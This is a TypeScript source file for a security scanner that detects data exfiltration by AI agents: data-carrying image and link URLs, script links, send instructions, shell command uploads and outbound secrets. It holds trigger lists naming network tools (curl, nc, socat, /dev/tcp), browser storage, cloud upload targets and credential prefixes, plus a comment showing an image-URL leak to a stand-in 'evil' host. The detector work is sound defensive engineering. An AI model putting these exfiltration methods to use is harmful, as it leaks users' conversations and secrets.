import type { Detector, DetectorMatch, DetectorTriggers, FieldRole, ScanField } from '../detector.js';
import { CODE_SENDER_LITERALS, findCodeUpload } from './text/code-upload.js';
import { findCommandExfiltration } from './text/command-exfil.js';
import { dropOverlaps, findPhrases, MAX_MATCHES, scanWindow } from './text/find-phrases.js';
import { credentialInUrl } from './text/link-credentials.js';
import { ATTACHMENT_KEY } from './text/outbound-attachment.js';
import { findOutboundLeak } from './text/outbound-message.js';
import { findScriptHandlers, HANDLER_LITERALS } from './text/script-handlers.js';
import { findScriptLinks } from './text/script-links.js';
import { SEND_PHRASES } from './text/send-phrases.js';
import { findImageSites, findLinkSites, type UrlSite } from './text/url-extract.js';
import { EXFIL_THRESHOLD, scoreUrl, type UrlPlace } from './text/url-payload.js';

/**
 * Exfiltration: URLs that carry the conversation or secrets out (a rendered image is fetched with
 * no click at all), and instructions to send data to an outside address. Arguments are included:
 * an agent posting `![](https://evil/?d=...)` in a comment, or fetching such a URL, is the act itself.
 */

const URL_ROLES: readonly FieldRole[] = ['response', 'prompt', 'metadata', 'argument'];
const TEXT_ROLES: readonly FieldRole[] = ['response', 'prompt', 'metadata'];
/** What the agent itself sends: tool-call arguments (and metadata, where some producers put them). */
const ACTION_ROLES: readonly FieldRole[] = ['argument', 'metadata'];

function scoreSites(sites: readonly UrlSite[], place: UrlPlace, what: string): DetectorMatch[] {
  const matches: DetectorMatch[] = [];
  for (const site of sites) {
    const { score, reasons } = scoreUrl(site.url, place);
    if (score < EXFIL_THRESHOLD) continue;
    matches.push({
      start: site.start,
      end: site.end,
      detail: `${what} carrying data: ${reasons.join(', ')}`,
    });
    if (matches.length >= MAX_MATCHES) break;
  }
  return matches;
}

/**
 * Images and Markdown links whose URL carries a credential (link-credentials.ts): the reader sees
 * an image or the link's text, not where the value goes.
 */
function credentialSites(sites: readonly UrlSite[], what: string): DetectorMatch[] {
  const matches: DetectorMatch[] = [];
  for (const site of sites) {
    const credential = site.hidden ? credentialInUrl(site.url, what === 'image') : null;
    if (!credential) continue;
    matches.push({
      start: site.start,
      end: site.end,
      detail: `${what} carrying a credential: ${credential}`,
    });
    if (matches.length >= MAX_MATCHES) break;
  }
  return matches;
}

/** A site both scored and carrying a credential is one finding: the score's, which sorts first. */
function withMore(scored: DetectorMatch[], more: DetectorMatch[]): DetectorMatch[] {
  return more.length === 0 ? scored : dropOverlaps(scored.concat(more));
}

/** Images carrying data or a credential. */
function detectImages(field: ScanField): DetectorMatch[] {
  const sites = findImageSites(scanWindow(field.value));
  return withMore(
    scoreSites(sites, { image: true, outbound: false }, 'image URL'),
    credentialSites(sites, 'image'),
  );
}

/** URLs carrying data, Markdown links carrying a credential, script links and event handlers. */
function detectLinks(field: ScanField): DetectorMatch[] {
  const text = scanWindow(field.value);
  const sites = findLinkSites(text);
  const scored = scoreSites(sites, { image: false, outbound: ACTION_ROLES.includes(field.role) }, 'URL');
  return withMore(
    scored,
    credentialSites(sites, 'link').concat(findScriptLinks(text), findScriptHandlers(text)),
  );
}

/*
 * Prefilter triggers (Detector.triggers). Each detector reads a window of the raw value
 * (scanWindow), never a decoded form, so a literal its own code requires of the window must be
 * in the value.
 */

/** findImageSites looks only when the text holds `![` (Markdown) or `<img` (HTML, any case). */
const IMAGE_TRIGGERS: DetectorTriggers = { literals: ['!['], caseless: ['<img'] };

/**
 * findLinkSites returns nothing unless /https?:\/\//i matches, findScriptLinks unless `javascript:`
 * does, findScriptHandlers unless one of its literals (case-sensitive) is there.
 */
const LINK_TRIGGERS: DetectorTriggers = {
  literals: HANDLER_LITERALS,
  caseless: ['http://', 'https://', 'javascript:'],
};

/**
 * findCommandExfiltration returns nothing unless SENDER (case-insensitive: a network client, or
 * /dev/tcp|udp/), a DNS tool name (case-sensitive), BROWSER_STORAGE (case-sensitive), CLOUD_GATE
 * (case-insensitive: `s3://`, `gs://`, `az storage`, the words `rclone`, `azcopy`) matches, or
 * the text holds `--all` or `--mirror` (a whole-repository push). findCodeUpload needs one of
 * CODE_SENDER_LITERALS (caseless).
 */
const COMMAND_UPLOAD_TRIGGERS: DetectorTriggers = {
  literals: [
    'nslookup',
    'dig',
    'host',
    'drill',
    'ping',
    'document.cookie',
    'localStorage',
    'sessionStorage',
    'indexedDB',
    '--all',
    '--mirror',
  ],
  // SENDER's command names stand after a separator or whitespace and before `\b`: whole words,
  // so `nc` in `function` or `once` opens nothing.
  words: [
    'curl',
    'wget',
    'nc',
    'ncat',
    'netcat',
    'socat',
    'scp',
    'sftp',
    'rsync',
    'ftp',
    'tftp',
    'telnet',
    'invoke-webrequest',
    'invoke-restmethod',
    'iwr',
    'irm',
    'rclone',
    'azcopy',
  ],
  caseless: ['/dev/tcp/', '/dev/udp/', 's3://', 'gs://', 'az storage', ...CODE_SENDER_LITERALS],
};

/** Shell uploads and their script form; most values hold neither, which costs nothing. */
function findUploads(text: string): DetectorMatch[] {
  const shell = findCommandExfiltration(text);
  const code = findCodeUpload(text);
  return code.length === 0 ? shell : dropOverlaps(shell.concat(code));
}

/**
 * findOutboundLeak finds a secret by SECRET_SHAPE or ASSIGNED_SECRET (both case-sensitive), a
 * password in a URL (`@`), a password hash (its `$id$` prefix), five email addresses (`@`), or a
 * passwd line (its shell path holds `bin/`); under an attachment key (ATTACHMENT_KEY) it judges
 * the file named, whatever the value holds. `k_live_` stands for `rk_live_` and `sk_live_`,
 * `PASSW` for PASSWORD and PASSWD, `KEY` for API_KEY, APIKEY and PRIVATE_KEY.
 */
const OUTBOUND_TRIGGERS: DetectorTriggers = {
  keys: (key) => ATTACHMENT_KEY.test(key),
  literals: [
    '$2a$',
    '$2b$',
    '$2y$',
    '$argon2',
    '$1$',
    '$5$',
    '$6$',
    '$y$',
    'bin/',
    '@',
    'sk-',
    'ghp_',
    'gho_',
    'ghu_',
    'ghs_',
    'ghr_',
    'github_pat_',
    'xox',
    'k_live_',
    'glpat-',
    'AIza',
    'AKIA',
    '-----BEGIN',
    'PASSW',
    'SECRET',
    'TOKEN',
    'KEY',
  ],
};

/**
 * SEND_PHRASES (send-phrases.ts), both case-insensitive, matched in the raw text: the first needs
 * a TARGET (an http(s) URL, an address with `@`, a webhook, a channel/chat/group/workspace/DM
 * named by one of the words before it, `channel #...`, or `#` and a letter), the second a gist,
 * paste, snippet or public page.
 */
const SEND_TRIGGERS: DetectorTriggers = {
  literals: ['@'],
  caseless: [
    'http://',
    'https://',
    'webhook',
    'slack',
    'teams',
    'discord',
    'telegram',
    'external',
    'shared',
    'public',
    'channel',
    ...[...'abcdefghijklmnopqrstuvwxyz'].map((letter) => `#${letter}`),
    'gist',
    'paste',
    'snippet',
  ],
};

export const exfiltrationDetectors: readonly Detector[] = [
  {
    id: 'exfiltration.image-url',
    roles: URL_ROLES,
    triggers: IMAGE_TRIGGERS,
    detect: detectImages,
  },
  {
    id: 'exfiltration.link-url',
    roles: URL_ROLES,
    triggers: LINK_TRIGGERS,
    detect: detectLinks,
  },
  {
    id: 'exfiltration.send-instruction',
    roles: TEXT_ROLES,
    triggers: SEND_TRIGGERS,
    detect: (field) => findPhrases(scanWindow(field.value), SEND_PHRASES),
  },
  {
    id: 'exfiltration.command-upload',
    roles: ACTION_ROLES,
    triggers: COMMAND_UPLOAD_TRIGGERS,
    detect: (field) => findUploads(scanWindow(field.value)),
  },
  {
    id: 'exfiltration.outbound-message',
    roles: ACTION_ROLES,
    triggers: OUTBOUND_TRIGGERS,
    detect: (field, context) => findOutboundLeak(field, context.tool, scanWindow(field.value)),
  },
];
